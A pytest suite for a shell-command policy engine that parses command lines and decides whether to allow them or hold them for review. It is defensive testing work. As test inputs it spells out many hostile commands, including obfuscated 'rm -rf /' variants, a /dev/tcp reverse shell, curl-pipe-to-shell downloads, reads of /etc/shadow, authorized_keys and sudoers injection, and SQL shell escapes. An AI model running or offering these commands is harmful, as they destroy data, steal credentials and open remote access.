"""Per construct: what the shell walker sees, however the command is spelled or wrapped."""

from __future__ import annotations

import pytest

from rules import Action, Command, Request, default_policy, evaluate
from rules.shell import analyse as analyse_line


def analyse(line: str) -> tuple[Command, ...]:
    """The commands the walker finds in `line` (a fresh login shell)."""
    return tuple(analyse_line(line).commands)


# The old pack's rule names, and the rules of the pack rewritten over meaning that
# stand for them (a command no rule reads is held as not understood instead).
SAME = {
    "rm-recursive-system-path": {"delete-system-tree"},
    "credential-read": {"credential-read", "ssh-directory-read"},
    "opaque-command": {
        "not-understood",
        "code-from-input",
        "run-downloaded",
        "editor-shell-escape",
        "startup-files-write",
    },
    "container-with-host-access": {"container-with-host-access", "startup-files-write"},
    "input-driven-destruction": {"not-understood", "delete-system-tree", "delete-system-files"},
    "keychain-dump": {"secret-print"},
    "kube-secret-read": {"secret-metadata", "secret-print"},
    "vault-secret-read": {"secret-print"},
    "system-config-write": {"startup-files-write", "authentication-files-write"},
}


def same_rule(found: str | None, old: str | None) -> bool:
    return found == old or found in SAME.get(old or "", set())


def programs(line: str) -> list[str]:
    return [c.program for c in analyse(line)]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls;rm x", ["ls", "rm"]),
        ("a && b || c & d", ["a", "b", "c", "d"]),
        ("cat f | grep x | wc -l", ["cat", "grep", "wc"]),
        ("(cd /tmp && rm x)", ["cd", "rm"]),
        ("{ rm x; }", ["rm"]),
        ("echo $(rm x) `id`", ["rm", "id", "echo"]),
        ("diff <(ls a) <(ls b)", ["ls", "ls", "diff"]),
        ("f() { rm x; }; f", ["rm"]),  # a function's call runs its body
        ("for i in 1 2; do rm $i; done", ["rm", "rm"]),  # i=1, then i=2
        ("while true; do id; done", ["true", "id"]),
        ("if test -f x; then rm x; else touch x; fi", ["test", "rm", "touch"]),
        ("case $1 in a) rm x;; esac", ["rm"]),
        ("x=$(rm y)", ["rm"]),  # an assignment is not a command; what it substitutes is
        ("arr=(a b); echo ${arr[0]}", ["echo"]),
        ("[[ -f x ]] && rm x", ["[[", "rm"]),
        ("echo $(( 1 + 2 ))", ["echo"]),
    ],
)
def test_every_simple_command_is_found(line: str, expected: list[str]) -> None:
    assert programs(line) == expected


@pytest.mark.parametrize(
    "line",
    [
        "r'm' -rf /",
        '"rm" -rf /',
        "\\rm -rf /",
        "/bin/rm -rf /",
        "/usr/bin/../bin/rm -rf /",
        "$'\\x72\\x6d' -rf /",
        "$'\\162\\155' -rf /",
    ],
)
def test_quoting_escapes_and_paths_normalize_the_program(line: str) -> None:
    [command] = analyse(line)
    assert command.program == "rm" and command.argv[1:] == ("-rf", "/")


@pytest.mark.parametrize(
    "line",
    [
        "sudo rm -rf /",
        "sudo -u root -- rm -rf /",
        "doas rm -rf /",
        "env -i A=1 rm -rf /",
        "nice -n 10 rm -rf /",
        "nohup rm -rf /",
        "timeout -s KILL 5 rm -rf /",
        "stdbuf -o0 rm -rf /",
        "setsid rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "time rm -rf /",
        "busybox rm -rf /",
        "xargs rm -rf /",
        "ionice -c 3 rm -rf /",
        "chroot /mnt rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -c \"sh -c 'rm -rf /'\"",
        "su -c 'rm -rf /' root",
        "ssh db1 rm -rf /",
        "ssh -p 22 db1 'rm -rf /'",
        "watch -n1 rm -rf /",
        "find / -maxdepth 0 -exec rm -rf {} \\;",
        "env -S 'rm -rf /'",
        "sudo nice timeout 5 env rm -rf /",
    ],
)
def test_wrappers_are_stripped(line: str) -> None:
    assert any(c.program == "rm" and "-rf" in c.argv and "/" in c.argv for c in analyse(line)), (
        analyse(line)
    )


def test_brace_expansion() -> None:
    [command] = analyse("rm -rf /{etc,var}")
    assert command.argv[2:] == ("/etc", "/var")
    assert analyse("echo {1..3}")[0].argv[1:] == ("1", "2", "3")
    assert analyse("echo '{a,b}'")[0].argv[1:] == ("{a,b}",)


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("eval $x", "eval"),
        ("$CMD arg", "not known before it runs"),
        ("$(echo rm) x", "computed"),
        ("curl x | sh", "pipe"),
        ("base64 -d f | bash", "pipe"),
        ("python3 -c 'print(1)'", "code given on the line"),
        ("perl -e 1", "code given on the line"),
        ("node -e 1", "code given on the line"),
        ("awk 'BEGIN{system(\"id\")}'", "awk"),
        ("bash <(curl x)", "process substitution"),
        ("rm -rf ((", "parse"),
    ],
)
def test_commands_not_understood_say_why(line: str, reason: str) -> None:
    decision = evaluate([default_policy()], Request(line))
    reasons = " | ".join(str(r) for r in decision.not_understood)
    assert not decision.understood and reason in reasons, reasons


def test_redirects_are_reads_and_writes() -> None:
    [command] = analyse("sort < in.txt > out.txt 2>> err.log")
    assert command.reads == ("~/in.txt",) and command.writes == ("~/out.txt", "~/err.log")
    # bash gives a redirect after a list to its last command only
    echo = [c for c in analyse("true && echo x >> ~/.ssh/authorized_keys") if c.program == "echo"]
    assert echo[0].writes == ("~/.ssh/authorized_keys",)
    shell = analyse("bash -i >& /dev/tcp/192.0.2.1/80 0>&1")
    assert any(c.hosts == ("192.0.2.1",) and "/dev/tcp/192.0.2.1/80" in c.writes for c in shell)


@pytest.mark.parametrize(
    ("line", "kinds"),
    [
        ("psql -c 'DROP DATABASE x'", ("drop_database",)),
        ("psql --command='drop table t'", ("drop_table",)),
        ("psql <<EOF\nCOPY t TO STDOUT;\nEOF", ("copy_to_stdout",)),
        ("psql <<< 'truncate t'", ("truncate",)),
        ("echo 'delete from t' | psql", ("delete_without_where",)),
        ("mysql -e 'update t set a = 1'", ("update_without_where",)),
        ("sqlite3 db 'select 1'", ("select",)),
        ("mongosh --eval 'db.dropDatabase()'", ("drop_database",)),
        ("redis-cli flushall", ("drop_database",)),
        ("psql -c '\\! id'", ("shell_escape",)),
        # Nested and indirect forms: a data-modifying CTE, EXPLAIN ANALYZE (which runs
        # the statement), server-side file functions, dblink, ALTER ... DROP, routines.
        (
            "psql -c 'WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d'",
            ("select", "delete_without_where"),
        ),
        ("psql -c 'EXPLAIN ANALYZE DELETE FROM t'", ("other", "delete_without_where")),
        ("psql -c 'EXPLAIN (ANALYZE, BUFFERS) TRUNCATE t'", ("other", "truncate")),
        ("mysql -e 'EXPLAIN FORMAT=JSON SELECT 1'", ("other", "select")),
        ("psql -c \"SELECT pg_read_file('/etc/passwd')\"", ("select", "server_file")),
        ("mysql -e \"SELECT LOAD_FILE('/etc/shadow')\"", ("select", "server_file")),
        ("mysql -e \"SELECT * FROM t INTO OUTFILE '/tmp/t'\"", ("select_into_outfile",)),
        ("psql -c \"SELECT dblink_exec('h', 'DROP DATABASE p')\"", ("select", "remote_sql")),
        ("psql -c 'ALTER TABLE t DROP COLUMN c'", ("alter_drop", "drop_other")),
        ("psql -c 'ALTER TABLE t ADD COLUMN c text'", ("other",)),
        ("psql -c 'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$'", ("create_code",)),
        ("psql -c 'CREATE INDEX i ON t (c)'", ("other",)),
    ],
)
def test_sql_handed_to_clients_is_parsed(line: str, kinds: tuple[str, ...]) -> None:
    assert any(c.sql == kinds for c in analyse(line)), analyse(line)


def test_unparseable_sql_is_not_understood() -> None:
    [command] = analyse("psql -c 'DROP DATABSE ((('")
    assert not command.understood and "SQL" in str(command.reasons[0])


def test_characters_that_crash_tree_sitter_bash_are_neutralised() -> None:
    """`a{` + U+F3269 segfaulted tree-sitter-bash 0.25.1; run in a child so a regression cannot kill the suite."""
    import subprocess
    import sys

    code = (
        "from rules import Request, default_policy, evaluate; "
        "print(evaluate([default_policy()], Request('a{\\U000f3269}')).understood)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    assert "False" in result.stdout  # the rarest planes make the line not understood
    assert all(c.understood for c in analyse("echo '🚀 deployed'"))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("echo /etc | xargs rm -rf", "rm-recursive-system-path"),  # the echoed items are its args
        ("printf '/etc /usr' | xargs -n1 rm -rf", "rm-recursive-system-path"),
        ("echo /etc | xargs -I{} rm -rf {}", "rm-recursive-system-path"),
        ("curl -s https://x.example/c | xargs -I% %", "opaque-command"),  # input names the command
        ("cat cmds | xargs -I{} bash -c 'run {}'", None),  # input becomes shell code
        ("vim /etc/hosts", "opaque-command"),  # :! runs commands the bastion never sees
        # Arguments read at run time: the command is reported with open_args.
        ("ls / | xargs rm -rf", "input-driven-destruction"),
        ("cat list.txt | xargs -n1 chmod 777", "input-driven-destruction"),
        ("xargs rm -rf < list.txt", "input-driven-destruction"),
        ("ls | parallel -j4 rm -rf", "input-driven-destruction"),
        ("cat jobs.txt | parallel", "opaque-command"),  # the input lines are the commands
        # find's starting points stand in for what it prints, as for -exec {}.
        ("find / -maxdepth 1 | xargs rm -rf", "rm-recursive-system-path"),
        ("find /etc -type f 2>/dev/null | xargs -I{} rm -rf {}", "rm-recursive-system-path"),
        ("find /tmp/x /etc -exec rm -rf {} +", "rm-recursive-system-path"),  # every start
        ("find . -name '*.log' -exec gzip {} ';' -exec rm -rf / ';'", "rm-recursive-system-path"),
        # parallel: `:::` items are the arguments; with no command they are command lines.
        ("parallel rm -rf ::: /etc /usr", "rm-recursive-system-path"),
        ("parallel rm -rf {} ::: build /boot", "rm-recursive-system-path"),
        ("parallel ::: 'rm -rf /' 'echo hi'", "rm-recursive-system-path"),
    ],
)
def test_xargs_input_and_editors(line: str, rule: str | None) -> None:
    decision = evaluate([default_policy()], Request(line))
    assert decision.action.severity >= Action.REVIEW.severity, (line, decision)
    if rule is not None:
        assert same_rule(decision.rule, rule), (line, decision.rule)


@pytest.mark.parametrize(
    "line",
    [
        "find . -name '*.o' | xargs rm -f",
        "find . -name '*.o' -print0 | xargs -0 rm -f",
        "find src -name '*.py' | xargs grep -n TODO",
        "git ls-files | xargs wc -l",
        "echo build dist | xargs rm -rf",
        "parallel gzip ::: a.log b.log",
        "ls *.log | parallel gzip",
        "echo a b | xargs",
    ],
)
def test_everyday_xargs_still_passes(line: str) -> None:
    assert evaluate([default_policy()], Request(line)).action is Action.ALLOW


def decided(line: str) -> tuple[Action, str | None]:
    decision = evaluate([default_policy()], Request(line))
    return decision.action, decision.rule


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        # bash joins a backslash-newline even inside a word; tree-sitter reads a space.
        ("r\\\nm -rf /etc", "rm-recursive-system-path"),
        ("cat /etc/sha\\\ndow", "credential-read"),
        # Variables set earlier on the line, for-loop values, ${X:-default}, IFS.
        ("x=/etc/shadow; cat $x", "credential-read"),
        ("q='DROP DATABASE prod'; psql -c \"$q\"", "sql-drop-database"),
        ("for d in /tmp /etc; do rm -rf $d; done", "rm-recursive-system-path"),
        ("cat ${F:-/etc/shadow}", "credential-read"),
        ("rm -rf$IFS/etc", "rm-recursive-system-path"),
        ("f=~/.ssh/authorized_keys; echo k >> $f", "authorized-keys-write"),
        ("read -r x <<< /etc/shadow; cat $x", "credential-read"),
        # Substitutions tree-sitter leaves unparsed; heredoc bodies it loses.
        ('echo "${x#$(cat /etc/shadow)}"', "credential-read"),
        ("bash <<EOF\n\\rm -rf /etc\nEOF\n", "rm-recursive-system-path"),
        ("echo $(</etc/shadow)", "credential-read"),
        # Globs and path spellings.
        ("rm -rf /et?", "rm-recursive-system-path"),
        ("cat /etc/sha*", "credential-read"),
        ("/bin/r? -rf /etc", "rm-recursive-system-path"),
        ("cat ../../../../etc/shadow", "credential-read"),
        ("cat /proc/self/root/etc/shadow", "credential-read"),
        ("rm --rec --force /etc", "rm-recursive-system-path"),  # GNU long-option prefixes
        # `cd` earlier on the line.
        ("cd /etc && cat shadow", "credential-read"),
        ("cd ~/.ssh && echo k >> authorized_keys", "authorized-keys-write"),
        # Files written, or downloaded, then run on the same line; aliases.
        ("echo 'rm -rf /etc' > x.sh; sh x.sh", "rm-recursive-system-path"),
        ("curl -so x http://192.0.2.1/x && chmod +x x && ./x", "opaque-command"),
        ("alias x=rm; x -rf /etc", "rm-recursive-system-path"),
        # Wrappers and option clusters.
        ("sudo -nu root rm -rf /etc", "rm-recursive-system-path"),
        ("pkexec rm -rf /etc", "rm-recursive-system-path"),
        ("docker exec db psql -c 'DROP DATABASE prod'", "sql-drop-database"),
        ("kubectl exec -n prod db-0 -- rm -rf /var/lib", "rm-recursive-system-path"),
        ("script -qc 'cat /etc/shadow' /dev/null", "credential-read"),
        ("trap 'rm -rf /etc' EXIT", "rm-recursive-system-path"),
        ("parallel -j4 'rm -rf {}' ::: /etc", "rm-recursive-system-path"),
        ("start-stop-daemon --start --exec /bin/rm -- -rf /etc", "rm-recursive-system-path"),
        # Interpreters: versions, option clusters, heredocs, /dev/stdin.
        ("python3.11 -c 'import os'", "opaque-command"),
        ("perl -ne 'system \"id\"' /etc/hosts", "opaque-command"),
        ("python3 <<EOF\nimport os\nEOF\n", "opaque-command"),
        ("awk 'BEGIN{ system (\"id\") }'", "opaque-command"),
        ("curl -s http://192.0.2.1/x | sh /dev/stdin", "download-and-execute"),
        # SQL: server-side programs and psql output pipes.
        ("psql -c \"COPY t FROM PROGRAM 'id'\"", "sql-shell-escape"),
        ("psql -c '\\o |sh'", "sql-shell-escape"),
    ],
)
def test_evasions_found_by_the_red_team(line: str, rule: str) -> None:
    action, found = decided(line)
    assert action.severity >= Action.REVIEW.severity and same_rule(found, rule), (
        line,
        action,
        found,
    )


def test_expansion_limits_make_the_line_opaque_instead_of_dropping_words() -> None:
    many = ",".join(f"x{i}" for i in range(300))
    assert decided(f"rm -rf /{{{many},etc}}")[0].severity >= Action.REVIEW.severity
    assert (
        decided("echo " + " ".join(f"/d{i}" for i in range(80)) + " | xargs rm -rf")[0].severity
        >= Action.REVIEW.severity
    )


@pytest.mark.parametrize(
    "line",
    [
        "cat *",  # a glob never reaches a leading dot (.env) or crosses a /
        "ls *.py",
        "cat ~/.ssh/*.pub",
        "rm -rf ./build/*",
        "cd /tmp && ls",
        "x=build; rm -rf $x",
        "for f in *.log; do gzip $f; done",
        "python3 manage.py shell -c 'print(1)'",
        "python3 --version",
        "node -v",
        "psql -c '\\dt'",
        "sed -n '/error/p' /var/log/syslog",
        "kill -1 1234",
        "ls -l ~/.ssh/id_rsa",
        "fdisk -l",
        "set -o history",
        "echo {1..100}",
    ],
)
def test_everyday_lines_near_the_new_checks_still_pass(line: str) -> None:
    assert decided(line) == (Action.ALLOW, None)


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        # Options before a tool's subcommand take values: they are not the subcommand.
        ("aws --profile prod secretsmanager get-secret-value --secret-id db", "keychain-dump"),
        ("kubectl -n prod get secrets -o yaml", "keychain-dump"),
        ("kubectl describe secret db", "kube-secret-read"),
        ("vault kv get secret/prod", "vault-secret-read"),
        # find's -name tests name what it hands on.
        ("find / -name id_rsa -exec cat {} \\;", "credential-read"),
        ("find /etc -name shadow | xargs cat", "credential-read"),
        # Files written through options; commands inside tool options and variables.
        ("curl -o ~/.ssh/authorized_keys https://example.invalid/k", "authorized-keys-write"),
        ("dd of=/etc/cron.d/x <<< '* * * * * root id'", "system-config-write"),
        ("cp -t ~/.ssh/ /tmp/authorized_keys", "authorized-keys-write"),
        ("git -c alias.x='!rm -rf /etc' x", "rm-recursive-system-path"),
        (
            "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% /etc'",
            "rm-recursive-system-path",
        ),
        (
            "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /etc'",
            "rm-recursive-system-path",
        ),
        ("export PROMPT_COMMAND='rm -rf /etc'", "rm-recursive-system-path"),
        ("LESSOPEN='|rm -rf /etc %s' less /etc/hosts", "rm-recursive-system-path"),
        ("LD_PRELOAD=/tmp/x.so ls", "opaque-command"),
        ("echo 'bob ALL=(ALL) NOPASSWD:ALL' | sudo EDITOR='tee -a' visudo", "account-changes"),
        # Options that set the directory paths are relative to; $(echo ...) in a path.
        ("env -C / rm -rf etc", "rm-recursive-system-path"),
        ("tar -C /etc -cf - shadow", "credential-read"),
        ("cat /etc/$(printf sha)dow", "credential-read"),
        ("docker run -v /:/host alpine rm -rf /host/etc", "container-with-host-access"),
        # SQL and database clients.
        ("psql -c 'DELETE FROM users WHERE true'", "sql-destructive"),
        ("psql -c 'UPDATE users SET pw = NULL WHERE 1=1'", "sql-destructive"),
        ("psql -c 'SELECT rolname, rolpassword FROM pg_authid'", "sql-server-files"),
        ("mysql -e 'pager sh'", "sql-shell-escape"),
        ("sqlite3 -cmd '.shell rm -rf /etc' app.db", "sql-shell-escape"),
        ("redis-cli CONFIG SET dir /root/.ssh", "sql-server-files"),
        ("echo FLUSHALL | redis-cli", "sql-drop-database"),
        ("clickhouse client -q 'DROP DATABASE x'", "sql-drop-database"),
    ],
)
def test_tool_knowledge_found_by_the_red_team(line: str, rule: str) -> None:
    action, found = decided(line)
    assert action.severity >= Action.REVIEW.severity and same_rule(found, rule), (
        line,
        action,
        found,
    )


@pytest.mark.parametrize(
    "line",
    [
        "sftp",  # how the SFTP subsystem itself is decided: never held by the client rule
        "kubectl -n prod get pods",
        "aws --profile prod s3 ls",
        "git -C /srv/app log --oneline",
        "psql -c 'DELETE FROM sessions WHERE expires < now()'",
        "redis-cli GET key",
        "find . -name '*.py' -exec wc -l {} +",
        "cp -r src/ build/",
        "sqlite3 -cmd '.mode csv' app.db 'select 1'",
        "tar -C build -xf release.tar",
        "make -C src all",
        "docker run --rm -v $PWD:/src alpine ls /src",
        "echo $(date)",
    ],
)
def test_everyday_tool_use_still_passes(line: str) -> None:
    assert decided(line) == (Action.ALLOW, None)


def test_alias_and_nesting_bombs_stay_bounded() -> None:
    """bash never re-expands an alias inside its own expansion; nested code has a budget."""
    assert len(analyse("alias a='a;a;a;a;a;a;a;a'; a")) < 100  # was 8**6 expansions
    many = "; ".join(["sh -c 'ls'"] * 200)
    assert "too much nested code to analyse" in " ".join(str(r) for r in analyse_line(many).reasons)
    assert decided(many)[0] is Action.REVIEW


@pytest.mark.parametrize(
    "line",
    [
        # Found by a review of the red-team fixes: exemptions and narrowings gone too far.
        "parted -s /dev/sda mklabel gpt",
        "mkfs.xfs -l size=64m /dev/sda1",
        "sgdisk --zap-all /dev/sda --print",
        "set +o history -o vi",
        "file -f /etc/shadow",
        "ssh -F /etc/shadow h",
        "chmod o+r /etc/ssl/private/k",
        "kill -9 -1 2>/dev/null",
        "kill -s KILL -1",
        "pkill -u 0",
        "sed --in 's/x/y/' /etc/passwd",
        "sed -n 'w /root/.ssh/authorized_keys' x",
        "rm -rf /var/www/html",
        "rm -rf /usr/local/bin",
        "cat /etc/shado[w\\ ]",  # a quoted space inside brackets still globs
        "kubectl -v 6 get secret db -o yaml",
        "kubectl get pods,secrets -o json",
        "rm -rf $'/\\x00'",  # bash ends the word at the NUL
    ],
)
def test_review_findings_are_blocked(line: str) -> None:
    assert decided(line)[0].severity >= Action.REVIEW.severity, line


@pytest.mark.parametrize(
    "line",
    [
        "ps -eo pid,user,etime,cmd",
        "ps -u postgres",
        "strings server.log",
        "chmod --reference=settings.py app.py",
        "kill -1 1234",
    ],
)
def test_review_false_positives_pass(line: str) -> None:
    assert decided(line) == (Action.ALLOW, None)


def test_long_lines_and_values_stay_cheap_and_never_reach_internal_errors() -> None:
    """Regexes in the pack are bounded, a value too long to remember is skipped (it used
    to raise in the second reading), and a for-list is trimmed before it is compared."""
    assert decided("y=1; x=" + "A" * 4100 + "; echo $x")[1] != "internal-error"
    assert decided("echo " + "a" * 60000)[0] is Action.ALLOW
    words = " ".join(f"x{i}{{1..200}}" for i in range(100))
    assert decided(f"for i in {words}; do echo $i; done")[1] != "internal-error"


def test_an_interactive_ssh_to_another_host_is_held() -> None:
    """Keystrokes typed into `ssh -J jump host` reach another host unseen: held, with why."""
    decision = evaluate([default_policy()], Request("ssh -J jump host"))
    assert decision.action is Action.REVIEW
    assert "interactive session on another host" in str(decision.not_understood[0])
